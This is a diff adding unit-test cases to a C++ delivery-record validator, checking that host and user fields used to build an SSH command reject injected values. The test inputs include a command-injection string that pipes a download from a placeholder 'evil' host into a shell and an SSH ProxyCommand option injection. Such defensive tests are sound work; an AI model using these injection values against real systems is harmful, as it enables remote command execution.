@@ -405,6 +405,13 @@ TEST_CASE("delivery access: reported while the hour delivers, final once revoked
   bad = opened;
   bad.host = "host\nInjected: yes";
   CHECK(refusal(record(t.trade, bad)) == RejectReason::invalid_delivery_record);
+  // Buyers paste `ssh -p PORT USER@HOST`: no second command, no option.
+  bad = opened;
+  bad.host = "h;curl evil|sh";
+  CHECK(refusal(record(t.trade, bad)) == RejectReason::invalid_delivery_record);
+  bad = opened;
+  bad.user = "-oProxyCommand=sh";
+  CHECK(refusal(record(t.trade, bad)) == RejectReason::invalid_delivery_record);
   CHECK(t.m.engine().state_hash() == before);  // refusals leave no trace
 
   const auto recorded = only<DeliveryRecorded>(record(t.trade, opened));
